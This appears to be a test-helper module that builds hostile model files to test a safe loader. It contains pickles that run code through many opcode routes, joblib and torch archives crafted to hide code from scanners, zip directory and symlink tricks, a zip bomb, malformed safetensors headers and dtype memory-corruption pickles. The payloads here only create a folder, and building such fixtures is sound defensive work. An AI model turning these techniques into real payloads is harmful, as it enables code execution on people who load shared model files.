"""Attacks on loading: each builds one hostile file, in a line for the test."""

from __future__ import annotations

import copyreg
import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

POP_STOP = b"0N."


class Touch:
    """Makes a folder when it is unpickled: the trace that code ran."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.trace),)


def malicious_pickle(trace: Path, *, protocol: int = 4) -> bytes:
    """A pickle that makes a folder when it is loaded."""
    return pickle.dumps({"weights": [1.0], "x": Touch(trace)}, protocol=protocol)


def text(value: str) -> bytes:
    """A SHORT_BINUNICODE opcode."""
    return b"\x8c" + bytes([len(value)]) + value.encode()


def pickles_that_run_code(trace: Path) -> dict[str, bytes]:
    """One pickle for each way to reach a callable; each makes the folder with plain pickle."""
    path = str(trace)
    fresh = b"\x80\x04"
    found = text("os") + text("mkdir") + b"\x93"
    call = text(path) + b"\x85R"
    return {
        "GLOBAL": b"cos\nmkdir\n(S'" + path.encode() + b"'\ntR.",
        "INST": b"(S'" + path.encode() + b"'\nios\nmkdir\n.",
        "OBJ of a class": b"(cbuiltins\nmap\ncos\nmkdir\n(S'" + path.encode() + b"'\nlo0N.",
        "STACK_GLOBAL": fresh + found + call + b".",
        "memoized names": fresh + text("os") + b"\x94" + text("mkdir") + b"\x94" + b"00"
        b"h\x00h\x01\x93" + call + b".",
        "name through DUP": fresh + text("posix") + text("mkdir") + b"\x93" + call + b".",
        "dotted name": fresh + text("shutil") + text("os.mkdir") + b"\x93" + call + b".",
        "Python 2 module": b"\x80\x02c__builtin__\neval\nX"
        + struct.pack("<I", len(_expression(path))) + _expression(path) + b"\x85R.",
        "hidden behind POP": fresh + found + call + POP_STOP,
        "in a reduced argument": fresh + text("builtins") + text("str") + b"\x93"
        + found + call + b"\x85R0N.",
        "getattr chain": fresh + text("builtins") + text("getattr") + b"\x93"
        + text("os") + text("path") + b"\x93" + text("os") + b"\x86R0"
        + found + call + b".",
    }  # fmt: skip


def _expression(path: str) -> bytes:
    return f"__import__('os').mkdir({path!r})".encode()


def extension_pickle() -> bytes:
    """A pickle that names its callable by a copyreg code (here registered for ``os.mkdir``)."""
    copyreg.add_extension("os", "mkdir", 240)
    try:
        return b"\x80\x04\x82\xf0" + text("x") + b"\x85R."
    finally:
        copyreg.remove_extension("os", "mkdir", 240)


def straddling_frame() -> bytes:
    """A pickle whose first opcode inside a frame is longer than the frame."""
    return b"\x80\x04\x95" + struct.pack("<Q", 2) + text("abcdef") + b"."


def endless_length() -> bytes:
    """A pickle that declares bytes far beyond its end."""
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"x."


def class_poisoning() -> bytes:
    """A pickle that sets an attribute on an allowed class, for the whole process."""
    state = b"N}" + text("default_factory") + b"K\x01s\x86"
    return b"\x80\x04" + text("collections") + text("OrderedDict") + b"\x93" + state + b"b."


def set_item_of_a_tensor() -> bytes:
    """CVE-2026-24747: SETITEM on what is no mapping."""
    made = text("torch") + text("Tensor") + b"\x93)\x81"
    return b"\x80\x04" + made + b"K\x00K\x01s."


def codec_lookup() -> bytes:
    """A pickle that makes ``_codecs.encode`` look a codec up by name."""
    return (
        b"\x80\x04"
        + text("_codecs")
        + text("encode")
        + b"\x93"
        + text("a")
        + text("zlib")
        + b"\x86R."
    )


def joblib_array_that_is_opcodes(file: Path, trace: Path) -> None:
    """A joblib file whose array, read by plain pickle, is a pickle that runs code."""
    import joblib  # noqa: PLC0415 - only this attack needs it

    payload = b"0" + text("os") + text("mkdir") + b"\x93" + text(str(trace)) + b"\x85R."
    payload = payload.ljust(256, b".")
    joblib.dump(np.frombuffer(payload, np.uint8), file)
    data = file.read_bytes()
    # The padding length byte and the padding must be opcodes that do nothing: none are needed.
    start = data.index(payload)
    state = data.rindex(b"numpy_array_alignment_bytes")
    aligned = data[state:].index(b"K\x10") + state
    plain = data[:aligned] + b"N" + data[aligned + 2 :]
    cut = plain.index(payload)
    padding = start - (data.index(b"b", aligned) + 1)
    file.write_bytes(plain[: cut - padding] + plain[cut:])


def rewritten_zip(
    file: Path, change: Callable[[zipfile.ZipInfo, bytes], tuple[str, bytes] | None]
) -> None:
    """Write an archive again with entries renamed, replaced or left out."""
    data = file.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(file, "w") as new:
        for info in old.infolist():
            changed = change(info, old.read(info))
            if changed is not None:
                new.writestr(*changed)


def poisoned_torch(file: Path, trace: Path) -> None:
    """Replace a torch archive's pickle by one that runs code."""
    rewritten_zip(
        file,
        lambda info, data: (
            info.filename,
            malicious_pickle(trace, protocol=2) if info.filename.endswith("data.pkl") else data,
        ),
    )


def second_pickle(file: Path, name: str, trace: Path) -> None:
    """Append an entry whose name some readers take for the pickle's."""
    with zipfile.ZipFile(file, "a") as archive:
        root = archive.namelist()[0].partition("/")[0]
        archive.writestr(f"{root}/{name}", malicious_pickle(trace, protocol=2))


def added_entry(file: Path, name: str, *, link: bool = False) -> None:
    """Append an entry under any name, perhaps as a symlink."""
    info = zipfile.ZipInfo(name)
    info.external_attr = (0o120777 if link else 0o100644) << 16
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(info, b"/etc/passwd")


def two_faced_header(file: Path) -> None:
    """Let a storage's local header tell another name than the directory does."""
    data = bytearray(file.read_bytes())
    place = data.index(b"/data/0") + 1
    data[place : place + 6] = b"data/7"
    file.write_bytes(data)


def prefixed(file: Path) -> None:
    """Put bytes before an archive; readers that look from the end still find it."""
    file.write_bytes(b"PK\x03\x04" + b"\0" * 60 + file.read_bytes())


def zip_bomb(file: Path) -> None:
    """An npz whose array is four thousand times larger than what is stored."""
    np.savez_compressed(file, x=np.zeros(8_000_000, np.uint8))


def safetensors_bytes(header: dict[str, Any] | bytes, data: bytes) -> bytes:
    """A safetensors file with any header."""
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded)) + encoded + data


def tensor(begin: int, end: int, shape: list[int] | None = None) -> dict[str, Any]:
    """A header entry of bytes."""
    return {"dtype": "U8", "shape": shape or [end - begin], "data_offsets": [begin, end]}


def hostile_safetensors() -> dict[str, bytes]:
    """One malformed file for each thing a header can lie about."""
    one = json.dumps(tensor(0, 4))
    return {
        "overlap": safetensors_bytes({"a": tensor(0, 4), "b": tensor(2, 6)}, b"123456"),
        "gap": safetensors_bytes({"a": tensor(0, 2), "b": tensor(4, 6)}, b"123456"),
        "past the end": safetensors_bytes({"a": tensor(0, 40)}, b"123456"),
        "unaccounted bytes": safetensors_bytes({"a": tensor(0, 2)}, b"123456"),
        "shape bomb": safetensors_bytes({"a": tensor(0, 6, [1 << 40])}, b"123456"),
        "negative": safetensors_bytes({"a": tensor(-2, 4, [6])}, b"123456"),
        "twice": safetensors_bytes(
            b'{"a":' + one.encode() + b',"a":' + one.encode() + b"}", b"1234"
        ),
        "nested metadata": safetensors_bytes(
            {"__metadata__": {"a": {}}, "b": tensor(0, 6)}, b"123456"
        ),
    }


def keras_config(file: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Edit the configuration inside a ``.keras`` archive."""

    def edit(info: zipfile.ZipInfo, data: bytes) -> tuple[str, bytes]:
        if info.filename != "config.json":
            return info.filename, data
        config = json.loads(data)
        change(config)
        return info.filename, json.dumps(config).encode()

    rewritten_zip(file, edit)


def keras_weights(file: Path, change: Callable[[Any], None]) -> None:
    """Edit the HDF5 weights inside a ``.keras`` archive."""
    import h5py  # noqa: PLC0415 - only these attacks need it

    def edit(info: zipfile.ZipInfo, data: bytes) -> tuple[str, bytes]:
        if not info.filename.endswith(".h5"):
            return info.filename, data
        buffer = io.BytesIO(data)
        with h5py.File(buffer, "r+") as weights:
            change(weights)
        return info.filename, buffer.getvalue()

    rewritten_zip(file, edit)


def long_text(value: str) -> bytes:
    """A BINUNICODE opcode, of protocol 1 on."""
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def imported(name: str) -> bytes:
    """A GLOBAL opcode."""
    module, _, leaf = name.rpartition(".")
    return b"c" + module.encode() + b"\n" + leaf.encode() + b"\n"


def rebuilt_dtype(kind: str = "u1", *, flags: int | None = None) -> bytes:
    """Opcodes that rebuild a dtype, perhaps with flags that are not its own."""
    made = imported("numpy.dtype") + long_text(kind) + b"\x89\x88\x87R"
    if flags is None:
        return made
    minus = b"J" + struct.pack("<i", -1)
    return made + b"(K\x03" + long_text("|") + b"NNN" + minus * 2 + b"K" + bytes([flags]) + b"tb"


ARRAY_WRAPPER = "joblib.numpy_pickle.NumpyArrayWrapper"
MADE_WRAPPER = imported(ARRAY_WRAPPER) + b")\x81"


def wrapper_items(length: int, dtype: bytes | None = None) -> bytes:
    """What joblib writes about an array of bytes."""
    return (
        long_text("subclass") + imported("numpy.ndarray") + long_text("order") + long_text("C")
        + long_text("shape") + vector(length) + long_text("allow_mmap") + b"\x89"
        + long_text("dtype") + (dtype or rebuilt_dtype())
    )  # fmt: skip


def vector(length: int) -> bytes:
    """A shape of one dimension."""
    return b"J" + struct.pack("<i", length) + b"\x85"


def joblib_files_read_in_two_ways(trace: Path) -> dict[str, bytes]:
    """Files whose code joblib runs where the walk steps over it as an array or a string.

    Behind each wrapper's BUILD stands a bytes opcode over the code: joblib skips its head as the
    array, and so comes to the code; whoever skips another number of bytes does not.
    """
    code = imported("os.mkdir") + long_text(str(trace)) + b"\x85R0"
    hidden = b"B" + struct.pack("<I", 3 + len(code)) + b"aaa" + code
    more = b"}(" + wrapper_items(len(hidden))
    eight, ending = long_text("shape") + vector(8) + b"ub", hidden + b"."
    crowd = b"".join(long_text(f"k{n}") + b"N" for n in range(5000))
    same = imported("numpy.str_") + long_text("shape") + b"\x85R" + vector(8) + b"ub"
    rest = imported(ARRAY_WRAPPER) + imported("builtins.object") + b"N\x87R}("
    framed = b"\x80\x04" + MADE_WRAPPER + b"}(" + wrapper_items(5) + b"ubN0N0N"
    behind = b"B" + struct.pack("<I", len(code)) + code + b"."
    plain = b"\x80\x02" + code + b"N."
    flagged = wrapper_items(len(plain), rebuilt_dtype(flags=63))
    start = b"\x80\x02" + MADE_WRAPPER
    return {
        "a shape among many keys": start + more + crowd + b"u(" + eight + ending,
        "a key that equals another": start + more + b"u(" + same + ending,
        "another attribute": start + b"}(" + wrapper_items(8)
        + long_text("safe_get_numpy_array_alignment_bytes") + imported("builtins.int") + b"ub"
        + _shadowed_alignment(code) + b".",
        "made by another call": b"\x80\x02" + imported("copyreg._reconstructor") + rest
        + wrapper_items(8) + b"ub" + ending,
        "inside a frame": framed[:2] + b"\x95" + struct.pack("<Q", len(framed) - 2) + framed[2:]
        + behind,
        "flags of objects": start + b"}(" + flagged + b"ub" + plain + b".",
    }  # fmt: skip


def _shadowed_alignment(code: bytes) -> bytes:
    # joblib takes the opcode "B" for 66 bytes of padding, and skips the array's 8 bytes too.
    filler = b"a" * (1 + ord("B") + 8 - 8 - 5)
    inner = b"B" + struct.pack("<I", len(filler) + len(code)) + filler + code
    return b"B" + struct.pack("<I", 3 + len(inner)) + b"aaa" + inner


def dtypes_that_lie() -> dict[str, bytes]:
    """Pickles whose dtype makes numpy take bytes for addresses, or read beyond an item."""
    start, minus = b"\x80\x02", b"J" + struct.pack("<i", -1)
    state = b"(K\x03" + long_text("|")
    far = b"}" + long_text("a") + rebuilt_dtype() + b"J" + struct.pack("<i", 1 << 20) + b"\x86s"
    both = (
        b"}" + long_text("a") + rebuilt_dtype("O8", flags=63) + b"K\x00\x86s"
        + long_text("b") + rebuilt_dtype("u8", flags=0) + b"K\x00\x86s"
    )  # fmt: skip
    names = long_text("a") + b"\x85"
    record = rebuilt_dtype("V8")
    own = imported("numpy.dtype") + long_text("f8") + b"\x89\x89\x87R"
    later = rebuilt_dtype("O8") + b"q\x010h\x01"
    return {
        "objects without their flags": start + rebuilt_dtype("O8", flags=0) + b".",
        "bytes with flags of objects": start + rebuilt_dtype("f8", flags=63) + b".",
        "a field beyond the item": start + record + state + b"N" + names + far
        + b"K\x08K\x01K\x10tb.",
        "a number over an object": start + record + state + b"N" + names + both
        + b"K\x08K\x01K\x1btb.",
        "a size beyond the kind": start + rebuilt_dtype("S4") + state + b"NNN"
        + b"J" + struct.pack("<i", 1 << 20) + b"K\x01K\x00tb.",
        "numpy's own dtype": start + own + state + b"NNN" + minus * 2 + b"K\x00tb.",
        "a dtype in use": start + later + state + b"NNN" + minus * 2 + b"K\x3ftb.",
        "an old state": start + record + b"(K\x02" + long_text("|") + b"NNK\x08K\x01tb.",
    }  # fmt: skip


def calls_under_another_name() -> dict[str, bytes]:
    """Pickles that reach an object or memory through a call that is allowed by name."""
    start, minus = b"\x80\x02", b"J" + struct.pack("<i", -1)
    own = b"}" + long_text("forward") + imported("builtins.dict") + b"s"
    dtype = imported("numpy.dtype") + long_text("O8") + b"\x89\x88\x87"
    state = b"(K\x03" + long_text("|") + b"NNN" + minus * 2 + b"K\x00t"
    return {
        "numpy.object_ gives a class back": start + imported("numpy.object_")
        + imported("torch.nn.modules.linear.Linear") + b"\x85RN" + own + b"\x86b.",
        "torch calls numpy.dtype": start + imported("torch._tensor._rebuild_from_type_v2")
        + b"(" + dtype + imported("torch.Tensor") + state + b"tR.",
        "torch calls what is no rebuilder": start
        + imported("torch._tensor._rebuild_from_type_v2") + b"(" + imported("builtins.object")
        + imported("torch.Tensor") + b")NtR.",
        "bytes of a size": start + imported("builtins.bytearray") + vector(1 << 30)
        + b"R.",
        "items of a range": start + imported("builtins.list") + imported("builtins.range")
        + b"J" + struct.pack("<i", 1 << 30) + b"\x85R\x85R.",
        "a state set twice": start + imported("collections.Counter") + b")R}b}b.",
    }  # fmt: skip


def stop_inside_frame() -> bytes:
    """A pickle that ends before its frame does: its reader goes on behind the frame."""
    return b"\x80\x04\x95" + struct.pack("<Q", 7) + b"N.B" + struct.pack("<I", 2) + b"N."


def two_directories(file: Path, trace: Path) -> None:
    """Give a torch archive a second directory, which torch finds and Python does not.

    Python takes the zip64 record right before its locator, torch the one that the locator names.
    """
    data, code = file.read_bytes(), malicious_pickle(trace, protocol=2)
    with zipfile.ZipFile(file) as archive:
        start, count = archive.start_dir, len(archive.namelist())
        place = f"{archive.namelist()[0].partition('/')[0]}/data.pkl".encode()
    directory = data[start : data.rindex(b"PK\x06\x06")]
    sizes = zlib.crc32(code), len(code), len(code), len(place)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, *sizes, 0) + place + code
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, *sizes, *[0] * 5, start)
    old = directory.index(place) - 46
    length = 46 + sum(struct.unpack_from("<3H", directory, old + 28))
    hidden = directory[:old] + entry + place + directory[old + length :]

    def record(size: int, offset: int) -> bytes:
        told = 44, 45, 45, 0, 0, count, count, size, offset
        return struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", *told)

    body = data[:start] + local
    body += hidden + record(len(hidden), len(body))
    named, shown = len(body) - 56, len(body)
    body += directory + record(len(directory), shown)
    body += struct.pack("<4sLQL", b"PK\x06\x07", 0, named, 1)
    ones = 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF
    file.write_bytes(body + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, *ones, 0))


def unlisted_bytes(file: Path) -> None:
    """Put bytes that no entry lists before an archive's directory."""
    with zipfile.ZipFile(file, "a") as archive:
        archive.fp.seek(archive.start_dir)  # type: ignore[union-attr]  # open while in the block
        archive.fp.write(b"x" * 64)  # type: ignore[union-attr]
        archive.start_dir += 64
        archive._didModify = True  # type: ignore[attr-defined]  # writes it again
